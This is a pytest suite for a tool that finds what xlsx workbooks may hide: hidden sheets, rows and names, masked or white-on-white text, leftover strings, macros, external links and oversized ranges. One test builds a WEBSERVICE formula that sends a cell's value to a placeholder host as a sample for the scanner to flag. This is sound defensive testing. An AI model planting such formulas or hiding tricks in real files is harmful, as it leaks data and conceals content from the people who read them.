"""What xlsx workbooks may hide, made by libraries that write them, each with a twin."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName

SECRET = "secret4711"
SHEET = 'sheet "Reply"'


@pytest.fixture
def workbook():
    workbook = openpyxl.Workbook()
    workbook.active.title = "Reply"
    for row in (("Method", "Offences"), ("Facebook", 11), ("Snapchat", 7), ("Kik", 2)):
        workbook.active.append(row)
    return workbook


@pytest.fixture
def saved(workbook, tmp_path):
    def save() -> Path:
        workbook.save(tmp_path / "a.xlsx")
        return tmp_path / "a.xlsx"

    return save


def replace_part(path: Path, part: str, old: str, new: str) -> Path:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert old.encode() in parts[part]
    parts[part] = parts[part].replace(old.encode(), new.encode())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def test_an_open_workbook_has_no_hazard(saved, found):
    assert found(saved()) == {}


def test_hidden_sheets_are_told_apart_by_number(workbook, saved, found):
    for state in ("hidden", "veryHidden"):
        workbook.create_sheet(f"{SECRET} {state}").sheet_state = state
    places = {("hidden-sheet", "sheet number 2"): "", ("very-hidden-sheet", "sheet number 3"): ""}
    assert found(saved()) == places


def test_a_sheet_the_workbook_does_not_list_is_hidden(saved, found):
    path = saved()
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/worksheets/sheet9.xml", "<worksheet/>")
    assert found(path) == {("hidden-sheet", ""): "1 sheet that the workbook does not list"}


def test_hidden_rows_are_named_in_spans(workbook, saved, found):
    for row in (2, 3, 30):
        workbook.active.row_dimensions[row].hidden = True
    workbook.active["A30"] = SECRET
    assert found(saved()) == {("hidden-rows", SHEET): "rows 2 to 3, 30"}


def test_a_row_of_no_height_and_a_column_of_no_width_are_hidden(saved, found):
    path = saved()
    row = '<row r="2" ht="0" customHeight="1"'
    replace_part(path, "xl/worksheets/sheet1.xml", '<row r="2"', row)
    columns = '<cols><col min="2" max="2" width="0"/></cols><sheetData>'
    replace_part(path, "xl/worksheets/sheet1.xml", "<sheetData>", columns)
    expected = {("hidden-rows", SHEET): "row 2", ("hidden-columns", SHEET): "column 2"}
    assert found(path) == expected


def test_rows_that_a_filter_leaves_out_are_called_so(workbook, saved, found):
    workbook.active.auto_filter.ref = "A1:B4"
    workbook.active.auto_filter.add_filter_column(0, ["Facebook"])
    assert found(saved()) == {}
    workbook.active.row_dimensions[3].hidden = True
    assert found(saved()) == {("filtered-rows", SHEET): "row 3"}


def test_rows_that_a_tables_filter_leaves_out_are_called_so(tmp_path, found):
    with xlsxwriter.Workbook(tmp_path / "a.xlsx") as workbook:
        sheet = workbook.add_worksheet("Reply")
        sheet.add_table("A1:B3", {"data": [["Facebook", 11], ["Snapchat", 7]]})
        sheet.set_row(2, None, None, {"hidden": True})
    table = "xl/tables/table1.xml"
    path = replace_part(
        tmp_path / "a.xlsx",
        table,
        '<autoFilter ref="A1:B3"/>',
        '<autoFilter ref="A1:B3"><filterColumn colId="0"/></autoFilter>',
    )
    assert found(path) == {("filtered-rows", SHEET): "row 3"}


def test_comments_and_macros_are_found(tmp_path, found):
    (tmp_path / "vba.bin").write_bytes(b"made for tests")
    with xlsxwriter.Workbook(tmp_path / "a.xlsm") as workbook:
        sheet = workbook.add_worksheet("Reply")
        sheet.write("A1", 20)
        sheet.write_comment("A1", SECRET)
        workbook.add_vba_project(str(tmp_path / "vba.bin"))
    assert found(tmp_path / "a.xlsm") == {("comments", ""): "1 part", ("macros", ""): "1 part"}


@pytest.mark.parametrize(
    ("kind", "found_kind"),
    [
        ("vbaProject", "macros"),
        ("pivotCacheDefinition", "pivot-cache"),
        ("externalLink", "external-links"),
        ("connections", "data-connections"),
        ("oleObject", "embedded-files"),
    ],
)
def test_a_part_under_another_name_is_known_by_its_relation(saved, kinds, kind, found_kind):
    relation = f'<Relationship Id="x" Type="http://example/{kind}" Target="plain.xml"/>'
    path = saved()
    assert kinds(path) == set()
    rels = "xl/_rels/workbook.xml.rels"
    replace_part(path, rels, "</Relationships>", relation + "</Relationships>")
    assert kinds(path) == {found_kind}


@pytest.mark.parametrize(
    ("part", "kind"),
    [
        ("xl/connections.xml", "data-connections"),
        ("xl/queryTables/queryTable1.xml", "data-connections"),
        ("xl/model/item.data", "data-connections"),
        ("xl/revisions/revisionHeaders.xml", "tracked-changes"),
        ("xl/activeX/activeX1.xml", "active-content"),
        ("customXml/item1.xml", "custom-properties"),
    ],
)
def test_parts_are_known_by_their_names(saved, kinds, part, kind):
    path = saved()
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(part, "<x/>")
    assert kinds(path) == {kind}


def test_a_query_kept_in_custom_xml_is_a_data_connection(saved, kinds):
    path = saved()
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("customXml/item1.xml", "<DataMashup>x</DataMashup>".encode("utf-16"))
    assert kinds(path) == {"data-connections", "custom-properties"}


def test_names_that_hold_values_or_point_to_hidden_sheets(workbook, saved, found):
    names = workbook.defined_names
    names["solver_ver"] = DefinedName("solver_ver", attr_text="3", hidden=True)
    names["total"] = DefinedName("total", attr_text="Reply!$B$2:$B$4")
    assert found(saved()) == {}
    names["far"] = DefinedName("far", attr_text="Reply!$Z$99")
    assert found(saved()) == {("stray-names", ""): "1 name"}
    names["held"] = DefinedName("held", attr_text=f'"{SECRET}"')
    workbook.create_sheet(SECRET).sheet_state = "hidden"
    names["back"] = DefinedName("back", attr_text=f"{SECRET}!$A$1")
    assert found(saved())["hidden-names", ""] == "2 names"


def test_a_format_that_shows_nothing_hides_text(workbook, saved, found_in_all):
    workbook.active["B4"].number_format = ";;;"
    assert found_in_all(saved()) == {("masked-by-format", f"{SHEET}, B4"): ""}


def test_white_on_white_and_tiny_text_is_hidden_and_white_on_blue_is_not(
    workbook, saved, found_in_all
):
    sheet = workbook.active
    sheet["A1"].font = Font(color="FFFFFFFF")
    sheet["A1"].fill = PatternFill("solid", fgColor="FF003366")
    assert found_in_all(saved()) == {}
    sheet["A2"].font, sheet["B2"].font = Font(color="FFFFFFFF"), Font(sz=1)
    assert found_in_all(saved()) == {("failed-redaction", f"{SHEET}, A2, B2"): "2 places"}


def test_a_formula_that_calls_another_address_is_refused(workbook, saved, found):
    workbook.active["B5"] = "=SUM(B2:B4)"
    assert found(saved()) == {}
    workbook.active["B6"] = '=WEBSERVICE("http://example.org/?"&B2)'
    workbook.active["B7"] = '=HYPERLINK("http://example.org")'
    expected = {("command-formula", SHEET): "1 formula", ("outside-references", SHEET): "1 formula"}
    assert found(saved()) == expected


def test_a_stray_cell_far_away_makes_the_sheet_absurd(workbook, saved, found):
    workbook.active["XFD1048576"] = 1
    expected = {("absurd-size", SHEET): "1,048,576 rows by 16,384 columns"}
    assert found(saved()) == expected


@pytest.mark.parametrize("reference", ["A1:XFE2", "A1:B1048577", "A1:B99999999999999999999"])
def test_a_size_no_spreadsheet_has_is_absurd_even_when_only_declared(saved, kinds, reference):
    path = saved()
    replace_part(path, "xl/worksheets/sheet1.xml", 'ref="A1:B4"', f'ref="{reference}"')
    assert kinds(path) == {"absurd-size"}


def test_texts_left_behind_by_deleted_cells_are_noted(tmp_path, found):
    path = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(path) as workbook:
        workbook.add_worksheet("Reply").write("A1", "Facebook")
    assert found(path) == {}
    left = f"<si><t>{SECRET}</t></si></sst>"
    replace_part(path, "xl/sharedStrings.xml", "</sst>", left)
    assert found(path) == {("leftover-text", ""): "1 text"}


def test_a_row_of_very_many_cells_is_absurd(saved, kinds):
    path = saved()
    cells = '<row r="2">' + '<c r="A2"/>' * 20_000
    replace_part(path, "xl/worksheets/sheet1.xml", '<row r="2">', cells)
    assert kinds(path) == {"absurd-size"}


def test_a_remark_inside_a_cell_hides_nothing_and_breaks_nothing(saved, found):
    path = saved()
    replace_part(path, "xl/worksheets/sheet1.xml", "<v>", "<!-- x --><v>")
    assert found(path) == {}


def test_a_whole_sheet_declared_but_empty_is_not_absurd(saved, found):
    path = saved()
    replace_part(path, "xl/worksheets/sheet1.xml", 'ref="A1:B4"', 'ref="A1:XFD1048576"')
    assert found(path) == {}


def test_the_sheets_are_those_of_the_part_the_package_opens_with(workbook, saved, kinds):
    workbook.create_sheet(SECRET).sheet_state = "veryHidden"
    path = saved()
    replace_part(path, "_rels/.rels", "xl/workbook.xml", "xl/workbook2.xml")
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("workbook.xml", "workbook2.xml"), content)
    assert kinds(path) == {"very-hidden-sheet"}
